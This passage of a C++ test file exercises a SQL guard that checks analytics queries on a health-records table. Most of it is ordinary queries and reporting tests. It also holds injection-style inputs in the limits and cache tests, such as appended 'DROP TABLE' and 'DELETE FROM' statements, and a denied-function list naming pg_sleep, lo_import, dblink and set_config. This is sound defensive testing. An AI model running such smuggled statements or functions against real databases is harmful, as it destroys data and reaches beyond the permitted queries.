    R"sql(SELECT "Hospital", count(*) FROM health_records GROUP BY "Hospital" UNION ALL SELECT 'TOTAL', count(*) FROM health_records)sql",
    R"sql(SELECT "Doctor" FROM health_records WHERE "Age" > 60 INTERSECT SELECT "Doctor" FROM health_records WHERE "Admission Type" = 'Emergency')sql",
    R"sql(SELECT "Hospital" FROM health_records EXCEPT SELECT "Hospital" FROM health_records WHERE "Billing Amount" < 0 ORDER BY 1)sql",
    R"sql(SELECT v.condition, count(h.id) FROM (VALUES ('Diabetes', 1), ('Asthma', 2)) AS v(condition, priority) JOIN health_records h ON h."Medical Condition" = v.condition GROUP BY v.condition)sql",
    R"sql(SELECT generate_series(1, 12) AS month)sql",
    R"sql(SELECT m.month, count(h.id) AS admissions FROM generate_series(date '2023-01-01', date '2023-12-01', interval '1 month') AS m(month) LEFT JOIN health_records h ON date_trunc('month', h."Date of Admission") = m.month GROUP BY m.month ORDER BY m.month)sql",
    R"sql(WITH RECURSIVE nums(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM nums WHERE n < 10) SELECT n FROM nums)sql",
    R"sql(SELECT "Age"::text, "Billing Amount"::int, "Room Number"::bigint, "Date of Admission"::date, CAST("Billing Amount" AS numeric(12, 2)) FROM health_records)sql",
    R"sql(SELECT "Billing Amount"::double precision, "Age"::float, "Age"::real, "Age"::smallint, "Patient Name"::varchar(20), "Gender"::char(1), "Date of Admission"::timestamptz, '1 day'::interval, 'true'::boolean FROM health_records)sql",
    R"sql(SELECT width_bucket("Age", 0, 100, 10) AS bucket, count(*) FROM health_records GROUP BY bucket ORDER BY bucket)sql",
    R"sql(SELECT floor("Age" / 10) * 10 AS decade, count(*) FROM health_records GROUP BY 1 ORDER BY 1)sql",
    R"sql(SELECT ceil("Billing Amount"), abs("Billing Amount" - 1000), power("Age", 2), sqrt("Age"), mod("Room Number", 100) FROM health_records)sql",
    R"sql(SELECT corr("Age", "Billing Amount") AS r, regr_slope("Billing Amount", "Age") AS slope FROM health_records)sql",
    R"sql(SELECT date_part('dow', "Date of Admission") AS dow, count(*) FROM health_records GROUP BY 1 ORDER BY 1)sql",
    R"sql(SELECT make_date(2024, 1, 1), make_interval(days => 10))sql",
    R"sql(SELECT * FROM health_records WHERE "Date of Admission" BETWEEN $1::date AND $2::date)sql",
    R"sql(SELECT * FROM health_records ORDER BY "Billing Amount" DESC NULLS LAST LIMIT 10 OFFSET 20)sql",
    R"sql(SELECT * FROM health_records FETCH FIRST 5 ROWS ONLY)sql",
    R"sql(SELECT "Hospital", count(*) FROM health_records GROUP BY "Hospital" ORDER BY count(*) DESC FETCH FIRST 3 ROWS WITH TIES)sql",
    R"sql(SELECT * FROM health_records TABLESAMPLE BERNOULLI (1))sql",
    R"sql(SELECT * FROM health_records TABLESAMPLE SYSTEM (5) REPEATABLE (42))sql",
    R"sql(SELECT "Patient Name" COLLATE "C" FROM health_records ORDER BY 1)sql",
    R"sql(SELECT jsonb_build_object('hospital', "Hospital", 'total', sum("Billing Amount")) FROM health_records GROUP BY "Hospital")sql",
    R"sql(SELECT (jsonb_build_object('a', 1) ->> 'a')::int)sql",
    R"sql(SELECT '{"a":{"b":2}}'::jsonb #>> '{a,b}', '{"a":1}'::json -> 'a')sql",
    R"sql(SELECT key, value FROM jsonb_each('{"a":1}'::jsonb))sql",
    R"sql(SELECT elem FROM jsonb_array_elements('[1,2]'::jsonb) AS elem)sql",
    R"sql(SELECT unnest(ARRAY['a', 'b']) AS letter)sql",
    R"sql(SELECT (ARRAY["Age", 1])[1] FROM health_records)sql",
    R"sql(SELECT "Age" = ANY (ARRAY[30, 40, 50]) FROM health_records)sql",
    R"sql(SELECT * FROM health_records WHERE "Medical Condition" = ANY ($1::text[]))sql",
    R"sql(SELECT ROW("Age", "Gender") FROM health_records)sql",
    R"sql(SELECT count(*) FROM health_records WHERE ("Age", "Gender") = (30, 'Male'))sql",
    R"sql(SELECT COUNT(DISTINCT "Doctor") AS doctors FROM health_records)sql",
    R"sql(SELECT bool_or("Test Results" = 'Abnormal') FROM health_records)sql",
    R"sql(SELECT "Admission Type", round(100.0 * count(*) / sum(count(*)) OVER (), 2) AS pct FROM health_records GROUP BY 1)sql",
    R"sql(SELECT cume_dist() OVER (ORDER BY "Billing Amount"), percent_rank() OVER (ORDER BY "Billing Amount") FROM health_records)sql",
    R"sql(SELECT regexp_replace("Patient Name", '\s+', ' ', 'g') FROM health_records)sql",
    R"sql(SELECT substring("Patient Name" FROM 1 FOR 3), position('a' IN "Patient Name"), substr("Doctor", 2) FROM health_records)sql",
    R"sql(SELECT "Date of Admission" AT TIME ZONE 'UTC' FROM health_records)sql",
    R"sql(SELECT date_trunc('week', "Date of Admission")::date AS week, count(*) FROM health_records GROUP BY 1 ORDER BY 1)sql",
    R"sql(SELECT to_date('2024-01-01', 'YYYY-MM-DD'), to_timestamp(0))sql",
    R"sql(SELECT * FROM health_records h WHERE h."Age" > 60 AND h."Admission Type" = 'Emergency' ORDER BY h."Date of Admission" DESC LIMIT $1)sql",
    R"sql(WITH by_month AS (
  SELECT date_trunc('month', "Date of Admission") AS month, "Hospital", sum("Billing Amount") AS revenue
  FROM health_records
  GROUP BY 1, 2
), ranked AS (
  SELECT month, "Hospital", revenue,
         rank() OVER (PARTITION BY month ORDER BY revenue DESC) AS r
  FROM by_month
)
SELECT month, "Hospital", revenue FROM ranked WHERE r <= 3 ORDER BY month, r)sql",
    R"sql(SELECT "Age" FROM health_records WHERE "Age" IS NOT NULL ORDER BY "Age" USING <)sql",
    R"sql(SELECT count(*) FROM health_records WHERE "Discharge Date" < "Date of Admission")sql",
    R"sql(SELECT $$dollar-quoted$$ AS s, 'it''s' AS t, E'line\n' AS u, $q$with $$ inside$q$ AS v)sql",
    "-- revenue by insurer, as requested\nSELECT \"Insurance Provider\", /* total */ sum(\"Billing Amount\")\nFROM health_records\nGROUP BY 1;",
    R"sql(SELECT date_trunc('quarter', "Date of Admission") AS q, "Insurance Provider", sum("Billing Amount") AS revenue, sum(sum("Billing Amount")) OVER (PARTITION BY "Insurance Provider" ORDER BY date_trunc('quarter', "Date of Admission")) AS running FROM health_records GROUP BY 1, 2 ORDER BY 2, 1)sql",
    R"sql(SELECT "Hospital", count(*) AS n FROM health_records GROUP BY "Hospital" ORDER BY n DESC LIMIT 5;)sql",
    R"sql(SELECT avg("Age") FILTER (WHERE "Gender" = 'Female') AS female_avg, avg("Age") FILTER (WHERE "Gender" = 'Male') AS male_avg FROM health_records)sql",
    R"sql(SELECT mode() WITHIN GROUP (ORDER BY "Blood Type") AS most_common FROM health_records)sql",
    R"sql(SELECT "Medical Condition", count(*) * 100.0 / (SELECT count(*) FROM health_records) AS share FROM health_records GROUP BY 1)sql",
    R"sql(SELECT NOT EXISTS (SELECT 1 FROM health_records WHERE "Age" < 0) AS ages_valid)sql",
    R"sql(SELECT "Age" FROM health_records WHERE "Age" % 2 = 0)sql",
    R"sql(SELECT * FROM health_records WHERE "Date of Admission" > '2023-01-01'::date AND "Date of Admission" < DATE '2024-01-01')sql",
    R"sql(SELECT * FROM health_records WHERE "Test Results" IN (SELECT DISTINCT "Test Results" FROM health_records WHERE "Age" > $1))sql",
    R"sql(SELECT h."Hospital", x.total FROM health_records h CROSS JOIN LATERAL (SELECT sum("Billing Amount") AS total FROM health_records h2 WHERE h2."Hospital" = h."Hospital") x LIMIT 5)sql",
    R"sql(SELECT a.id, b.id FROM health_records a FULL OUTER JOIN health_records b USING (id))sql",
    R"sql(SELECT count(*) FROM health_records a NATURAL JOIN health_records b)sql",
    R"sql(SELECT ("Age" > 30) IS TRUE, ("Test Results" = 'Normal') IS UNKNOWN FROM health_records)sql",
    R"sql(SELECT * FROM health_records ORDER BY random() LIMIT 10)sql",
    R"sql(WITH x AS MATERIALIZED (SELECT "Hospital", count(*) AS n FROM health_records GROUP BY 1) SELECT * FROM x WHERE n > 10)sql",
    R"sql(WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SEARCH BREADTH FIRST BY n SET ord SELECT n FROM r ORDER BY ord)sql",
    R"sql(SELECT date_bin('15 minutes', "Date of Admission"::timestamp, TIMESTAMP '2001-01-01') FROM health_records)sql",
    R"sql(SELECT "Billing Amount" FROM health_records WHERE "Billing Amount" > 1e4 AND "Age" < 1.5e2)sql",
    R"sql(SELECT row_to_json(h) FROM health_records h WHERE h.id = $1)sql",
    R"sql(SELECT date("Date of Admission"), float8("Age"), int8("Room Number") FROM health_records)sql",
    R"sql(SELECT h."Doctor", o.name FROM health_records h JOIN hospitals o ON o.name = h."Hospital")sql",
    R"sql(SELECT "Hospital", count(*) FILTER (WHERE "Admission Type" = 'Urgent') AS urgent, count(*) FILTER (WHERE "Admission Type" = 'Elective') AS elective, count(*) FILTER (WHERE "Admission Type" = 'Emergency') AS emergency FROM health_records GROUP BY "Hospital" ORDER BY urgent DESC)sql",
    R"sql(SELECT "Insurance Provider", "Medical Condition", avg("Billing Amount") AS avg_cost, count(*) AS n FROM health_records WHERE "Date of Admission" >= $1 GROUP BY ROLLUP ("Insurance Provider", "Medical Condition") HAVING count(*) >= $2 ORDER BY 1 NULLS LAST, 3 DESC)sql",
    R"sql(SELECT EXTRACT(YEAR FROM age(current_date, make_date(1990, 1, 1)))::int AS years)sql",
    R"sql(SELECT "Gender", percentile_cont(ARRAY[0.25, 0.5, 0.75]) WITHIN GROUP (ORDER BY "Age") FROM health_records GROUP BY 1)sql",
    R"sql(SELECT CASE "Blood Type" WHEN 'O-' THEN 'universal donor' WHEN 'AB+' THEN 'universal recipient' ELSE 'other' END, count(*) FROM health_records GROUP BY 1)sql",
    R"sql(SELECT lag("Billing Amount", 1, 0) OVER (ORDER BY id) AS prev, "Billing Amount" - lag("Billing Amount") OVER (ORDER BY id) AS delta FROM health_records)sql",
    R"sql(SELECT string_agg("Patient Name", '; ') FILTER (WHERE "Age" > 90) FROM health_records)sql",
    R"sql(SELECT "Room Number" / 100 AS floor_no, count(*) FROM health_records GROUP BY "Room Number" / 100 ORDER BY 1)sql",
    R"sql(SELECT 1 OPERATOR(pg_catalog.+) 2, "Age" OPERATOR(pg_catalog.>=) 18 FROM health_records)sql",
    R"sql(WITH health_records AS (SELECT 1 AS id) SELECT id FROM health_records)sql",
    R"sql(SELECT pg_authid.id FROM health_records AS pg_authid)sql",
  };
  return q;
}
// clang-format on

TEST(SqlGuardHostile, EveryHostileQueryIsRefusedWithTheConstructNamed) {
  const auto& queries = hostile_queries();
  ASSERT_GE(queries.size(), 100u);
  int refused = 0;
  for (const auto& h : queries) {
    SCOPED_TRACE(h.sql);
    auto r = guard().check(h.sql);
    ASSERT_FALSE(r.ok()) << "accepted a hostile query: " << h.sql;
    EXPECT_NE(r.error().message.find(h.expected), std::string::npos)
        << "message: " << r.error().message << "\nexpected to contain: " << h.expected;
    EXPECT_EQ(r.error().code.rfind("sql_guard.", 0), 0u) << r.error().code;
    ++refused;
  }
  std::cout << "[sql_guard] hostile queries refused: " << refused << "/" << queries.size() << "\n";
}

TEST(SqlGuardLegitimate, RealisticAnalyticsQueriesPass) {
  const auto& queries = legitimate_queries();
  ASSERT_GE(queries.size(), 100u);
  int rejected = 0;
  for (const auto& sql : queries) {
    auto r = guard().check(sql);
    if (!r.ok()) {
      ++rejected;
      ADD_FAILURE() << "false rejection: " << sql << "\n  -> " << r.error().message;
    }
  }
  const double rate = 100.0 * rejected / static_cast<double>(queries.size());
  std::cout << "[sql_guard] legitimate queries: " << queries.size() << ", false rejections: " << rejected
            << " (" << std::fixed << std::setprecision(2) << rate << "%)\n";
  EXPECT_EQ(rejected, 0);
}

// --- what an accepted query reports ---

TEST(SqlGuardReport, RelationsColumnsAndParameters) {
  auto r = guard().check(
      R"sql(SELECT h."Age", "Gender" FROM health_records h WHERE "Doctor" = $2 AND h.id > $1)sql");
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(r->relations, (std::set<std::string>{"public.health_records"}));
  EXPECT_EQ(r->columns.at("public.health_records"), (std::set<std::string>{"Age", "Gender", "Doctor", "id"}));
  EXPECT_EQ(r->param_count, 2);
}

TEST(SqlGuardReport, StarAndWholeRowReadEveryColumn) {
  auto star = guard().check("SELECT * FROM health_records");
  ASSERT_TRUE(star.ok());
  EXPECT_EQ(star->columns.at("public.health_records"), (std::set<std::string>{"*"}));
  EXPECT_EQ(star->param_count, 0);

  auto qualified_star = guard().check("SELECT h.* FROM public.health_records h");
  ASSERT_TRUE(qualified_star.ok());
  EXPECT_EQ(qualified_star->columns.at("public.health_records"), (std::set<std::string>{"*"}));

  auto whole_row = guard().check("SELECT row_to_json(h) FROM health_records h");
  ASSERT_TRUE(whole_row.ok());
  EXPECT_EQ(whole_row->columns.at("public.health_records"), (std::set<std::string>{"*"}));
}

TEST(SqlGuardReport, JoinsResolveAliasesAndOverApproximateUnqualifiedNames) {
  auto r = guard().check(
      R"sql(SELECT h."Age", o.name, city FROM health_records h JOIN hospitals o ON o.name = h."Hospital")sql");
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(r->relations, (std::set<std::string>{"public.health_records", "public.hospitals"}));
  EXPECT_EQ(r->columns.at("public.health_records"), (std::set<std::string>{"Age", "Hospital", "city"}));
  EXPECT_EQ(r->columns.at("public.hospitals"), (std::set<std::string>{"name", "city"}));
}

TEST(SqlGuardReport, CtesAndSubqueriesAreNotRelationsButTheirSourcesAre) {
  auto r = guard().check(
      R"sql(WITH t AS (SELECT "Age", "Doctor" FROM health_records) SELECT s.a FROM (SELECT "Age" AS a FROM t) s ORDER BY a)sql");
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(r->relations, (std::set<std::string>{"public.health_records"}));
  EXPECT_EQ(r->columns.at("public.health_records"), (std::set<std::string>{"Age", "Doctor"}));
}

TEST(SqlGuardReport, ManyFromItemsAndColumnsStayCorrect) {
  // Thousands of FROM items and unqualified columns: attribution uses indexed scopes.
  std::string sql = "SELECT ";
  for (int i = 0; i < 500; ++i) sql += (i != 0 ? ", c" : "c") + std::to_string(i % 7);
  sql += " FROM ";
  for (int i = 0; i < 1000; ++i)
    sql += (i != 0 ? ", health_records t" : "health_records t") + std::to_string(i);
  auto r = guard().check(sql);
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(r->relations, (std::set<std::string>{"public.health_records"}));
  EXPECT_EQ(r->columns.at("public.health_records"),
            (std::set<std::string>{"c0", "c1", "c2", "c3", "c4", "c5", "c6"}));
}

TEST(SqlGuardReport, ACteShadowingATableIsNotThatTable) {
  auto r = guard().check("WITH health_records AS (SELECT 1 AS id) SELECT id FROM health_records");
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_TRUE(r->relations.empty());
  EXPECT_TRUE(r->columns.empty());
}

TEST(SqlGuardReport, QualifiedColumnOfARelationNotInFromIsNotReported) {
  auto r = guard().check(R"sql(SELECT public.hospitals.name FROM health_records)sql");
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(r->relations, (std::set<std::string>{"public.health_records"}));
  EXPECT_EQ(r->columns.count("public.hospitals"), 0u);
}

TEST(SqlGuardReport, OutputAliasesInOrderByAreNotColumns) {
  auto r = guard().check(
      R"sql(SELECT "Hospital", count(*) AS n FROM health_records GROUP BY "Hospital" ORDER BY n DESC)sql");
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->columns.at("public.health_records"), (std::set<std::string>{"Hospital"}));
}

TEST(SqlGuardReport, CorrelatedReferencesReachTheOuterAlias) {
  auto r = guard().check(
      R"sql(SELECT id FROM health_records h WHERE EXISTS (SELECT 1 FROM (VALUES (1)) v(x) WHERE v.x = h."Room Number"))sql");
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(r->columns.at("public.health_records"), (std::set<std::string>{"id", "Room Number"}));
}

TEST(SqlGuardReport, FingerprintIgnoresConstantsButNotShape) {
  auto a = guard().check(R"sql(SELECT * FROM health_records WHERE "Age" > 30)sql");
  auto b = guard().check(R"sql(select *   from health_records where "Age" > 65)sql");
  auto c = guard().check(R"sql(SELECT * FROM health_records WHERE "Age" < 30)sql");
  ASSERT_TRUE(a.ok() && b.ok() && c.ok());
  EXPECT_EQ(a->fingerprint.size(), 16u);
  EXPECT_EQ(a->fingerprint.find_first_not_of("0123456789abcdef"), std::string::npos);
  EXPECT_EQ(a->fingerprint, b->fingerprint);
  EXPECT_NE(a->fingerprint, c->fingerprint);
}

TEST(SqlGuardReport, NormalizedSqlReplacesConstants) {
  auto r =
      guard().check(R"sql(SELECT * FROM health_records WHERE "Patient Name" = 'Jane Doe' AND "Age" > $1)sql");
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->normalized_sql.find("Jane Doe"), std::string::npos) << r->normalized_sql;
  EXPECT_NE(r->normalized_sql.find("$2"), std::string::npos) << r->normalized_sql;
  EXPECT_EQ(r->param_count, 1);
}

TEST(SqlGuardReport, HighestParameterCounts) {
  auto r = guard().check("SELECT $3::int + $1::int");
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->param_count, 3);
}

// --- policy ---

TEST(SqlGuardPolicy, AlwaysDeniedFunctionsStayDeniedEvenIfListed) {
  GuardPolicy p = test_policy();
  p.allowed_functions.insert({"pg_sleep", "set_config", "lo_import", "dblink", "current_setting"});
  const SqlGuard g(p);
  for (const char* sql :
       {"SELECT pg_sleep(1)", "SELECT set_config('a', 'b', false)", "SELECT lo_import('/x')",
        "SELECT dblink('a', 'b')", "SELECT current_setting('x')"}) {
    auto r = g.check(sql);
    EXPECT_FALSE(r.ok()) << sql;
  }
}

TEST(SqlGuardPolicy, FunctionsOffThePolicyListAreRefused) {
  GuardPolicy p = test_policy();
  p.allowed_functions = {"count"};
  const SqlGuard g(p);
  EXPECT_TRUE(g.check("SELECT count(*) FROM health_records").ok());
  auto r = g.check(R"sql(SELECT lower("Doctor") FROM health_records)sql");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message.find("function lower is not allowed"), std::string::npos);
}

TEST(SqlGuardPolicy, RelationsMustBeListed) {
  GuardPolicy p;
  p.allowed_relations = {"analytics.visits"};
  const SqlGuard g(p);
  EXPECT_TRUE(g.check("SELECT * FROM analytics.visits").ok());
  auto r = g.check("SELECT * FROM visits");  // resolves to public.visits
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message.find("relation visits is not allowed"), std::string::npos);
  EXPECT_FALSE(g.check("SELECT * FROM health_records").ok());
}

TEST(SqlGuardPolicy, QualifiedAllowedFunctionsWork) {
  EXPECT_TRUE(guard().check("SELECT pg_catalog.lower('X'), public.upper('y')").ok());
}

// --- limits: never crash, always a clear error ---

TEST(SqlGuardLimits, OversizedQueryIsRefused) {
  std::string sql = "SELECT '" + std::string(100001, 'x') + "'";
  auto r = guard().check(sql);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, "sql_guard.limit");
  EXPECT_NE(r.error().message.find("the limit is 100000"), std::string::npos);
}

TEST(SqlGuardLimits, NulByteAndInvalidUtf8AreRefused) {
  auto nul = guard().check(std::string_view("SELECT 1\0; DROP TABLE health_records", 37));
  ASSERT_FALSE(nul.ok());
  EXPECT_NE(nul.error().message.find("NUL byte"), std::string::npos);
  auto bad = guard().check("SELECT '\xff\xfe'");
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.error().message.find("not valid UTF-8"), std::string::npos);
  auto overlong = guard().check("SELECT '\xc0\xaf'");
  EXPECT_FALSE(overlong.ok());
  EXPECT_TRUE(guard().check("SELECT 'caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x8f\xa5'").ok());
}

TEST(SqlGuardLimits, DeepParenthesesAreRefused) {
  std::string sql = "SELECT ";
  for (int i = 0; i < 100; ++i) sql += "abs(";
  sql += "1" + std::string(100, ')');
  auto r = guard().check(sql);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, "sql_guard.limit");
  EXPECT_NE(r.error().message.find("nesting depth exceeds 64"), std::string::npos);
}

TEST(SqlGuardLimits, ParserStackExhaustionIsAnError) {
  std::string sql = "SELECT " + std::string(20000, '(') + "1" + std::string(20000, ')');
  auto r = guard().check(sql);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, "sql_guard.syntax") << r.error().message;
}

TEST(SqlGuardLimits, VeryLongOperatorChainDoesNotCrash) {
  // ~49,000 levels of left-nested A_Expr: more than a normal thread stack can print.
  std::string sql = "SELECT 1";
  while (sql.size() < 99990) sql += "+1";
  auto r = guard().check(sql);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, "sql_guard.limit");
  EXPECT_NE(r.error().message.find("nesting depth"), std::string::npos);
}

TEST(SqlGuardLimits, LargeLegitimateQueryUsesTheHelperThread) {
  std::string sql = R"sql(SELECT count(*) FROM health_records WHERE id IN ()sql";
  for (int i = 0; i < 2000; ++i) sql += (i ? ", " : "") + std::to_string(i);
  sql += ")";
  ASSERT_GT(sql.size(), 2048u);
  auto r = guard().check(sql);
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(r->columns.at("public.health_records"), (std::set<std::string>{"id"}));
}

TEST(SqlGuardLimits, NestingLimitIsConfigurable) {
  GuardPolicy p = test_policy();
  p.max_nesting_depth = 8;
  const SqlGuard g(p);
  EXPECT_TRUE(g.check("SELECT 1").ok());
  auto r =
      g.check(R"sql(SELECT * FROM health_records WHERE "Age" IN (SELECT abs(round(1 + (2 * (3 - 4))))))sql");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message.find("nesting depth exceeds 8"), std::string::npos);
}

TEST(SqlGuardLimits, ConcurrentChecksAreIndependent) {
  std::vector<std::thread> threads;
  std::atomic<int> failures{0};
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&] {
      for (int i = 0; i < 50; ++i) {
        if (!guard().check(legitimate_queries()[static_cast<std::size_t>(i) % 20]).ok()) ++failures;
        if (guard().check("SELECT pg_sleep(1)").ok()) ++failures;
      }
    });
  }
  for (auto& th : threads) th.join();
  EXPECT_EQ(failures.load(), 0);
}

// --- the parse-tree reader ---

TEST(SqlGuardVerdicts, ARepeatedTextIsAnsweredFromTheCacheWithTheSameVerdict) {
  SqlGuard g(test_policy());
  const std::string sql = "SELECT \"Hospital\", count(*) FROM health_records WHERE \"Age\" > $1 GROUP BY 1";
  auto first = g.check(sql);
  ASSERT_TRUE(first.ok()) << first.error().message;
  auto second = g.check(sql);
  ASSERT_TRUE(second.ok());
  EXPECT_EQ(g.cache_stats().hits, 1u);
  EXPECT_EQ(second->sql(), sql);
  EXPECT_EQ(second->issuer(), &g);
  EXPECT_EQ(second->fingerprint, first->fingerprint);
  EXPECT_EQ(second->normalized_sql, first->normalized_sql);
  EXPECT_EQ(second->relations, first->relations);
  EXPECT_EQ(second->columns, first->columns);
  EXPECT_EQ(second->param_count, 1);
  // A text differing by one byte is its own entry, checked on its own.
  auto hostile = g.check(sql + "; DELETE FROM health_records");
  ASSERT_FALSE(hostile.ok());
  EXPECT_EQ(g.cache_stats().hits, 1u);
}

TEST(SqlGuardVerdicts, RefusalsAreNeverCachedAndAreRefusedEveryTime) {
  SqlGuard g(test_policy());
  for (int i = 0; i < 3; ++i) {
    auto r = g.check("SELECT set_config('larder.context', 'x', true)");
    ASSERT_FALSE(r.ok());
    EXPECT_EQ(r.error().code, "sql_guard.rejected");
  }
  EXPECT_EQ(g.cache_stats().entries, 0u);
}

TEST(SqlGuardVerdicts, AVerdictBelongsToItsGuardAndPolicy) {
  GuardPolicy narrow = test_policy();
  narrow.allowed_relations = {"public.hospitals"};
  SqlGuard wide(test_policy()), strict(narrow);
  const std::string sql = "SELECT * FROM health_records";
  ASSERT_TRUE(wide.check(sql).ok());
  ASSERT_TRUE(wide.check(sql).ok());
  EXPECT_FALSE(strict.check(sql).ok());  // another guard never sees the first one's verdicts
  GuardPolicy off = test_policy();
  off.verdict_cache_entries = 0;
  SqlGuard uncached(off);
  ASSERT_TRUE(uncached.check(sql).ok());
  ASSERT_TRUE(uncached.check(sql).ok());
  EXPECT_EQ(uncached.cache_stats().entries, 0u);
}

TEST(GuardTree, ReadsObjectsArraysAndScalarsInDocumentOrder) {
  guard_tree::Document doc;
  ASSERT_TRUE(doc.parse(R"({"b":[1,-2,{}],"a":"x","t":true,"f":false,"n":null,"d":1.5e3})", 8))
      << doc.error();
  const auto& root = doc.root();
  ASSERT_TRUE(root.is_object());
  ASSERT_EQ(root.size(), 6u);
  EXPECT_EQ(doc.key(root, 0), "b");
  EXPECT_EQ(doc.key(root, 1), "a");
  const auto* b = doc.find(root, "b");
  ASSERT_TRUE(b != nullptr && b->is_array());
  EXPECT_EQ(doc.child(*b, 1).integer(), -2);
  EXPECT_TRUE(doc.child(*b, 2).is_object());
  EXPECT_EQ(doc.child(*b, 2).size(), 0u);
  EXPECT_EQ(doc.find(root, "a")->str(), "x");
  EXPECT_TRUE(doc.find(root, "t")->boolean());
  EXPECT_FALSE(doc.find(root, "f")->boolean());
  EXPECT_EQ(doc.find(root, "n")->kind(), guard_tree::Value::Kind::kNull);
  EXPECT_EQ(doc.find(root, "d")->kind(), guard_tree::Value::Kind::kNumber);
  EXPECT_EQ(doc.find(root, "missing"), nullptr);
}

TEST(GuardTree, DecodesEscapes) {
  guard_tree::Document doc;
  ASSERT_TRUE(doc.parse(R"(["-\u003e\u003e", "q\"b\\s\/n\n", "\u00e9\ud83c\udfe5"])", 4)) << doc.error();
  EXPECT_EQ(doc.child(doc.root(), 0).str(), "->>");
  EXPECT_EQ(doc.child(doc.root(), 1).str(), "q\"b\\s/n\n");
  EXPECT_EQ(doc.child(doc.root(), 2).str(), "\xc3\xa9\xf0\x9f\x8f\xa5");
}

TEST(GuardTree, RefusesMalformedInputAndExcessiveDepth) {
  for (const char* bad : {"", "{", "[1,]", R"({"a" 1})", R"("abc)", R"(["\ud800"])", R"(["\x"])", "{} x",
                          "[tru]", "[-]", R"({"a":1,})", "[\"\x01\"]"}) {
    guard_tree::Document doc;
    EXPECT_FALSE(doc.parse(bad, 8)) << bad;
    EXPECT_FALSE(doc.error().empty());
  }
  guard_tree::Document deep;
  EXPECT_FALSE(deep.parse(std::string(10, '[') + std::string(10, ']'), 9));
  EXPECT_TRUE(deep.too_deep());
  guard_tree::Document ok;
  EXPECT_TRUE(ok.parse(std::string(9, '[') + std::string(9, ']'), 9));
}

}  // namespace
}  // namespace larder::db
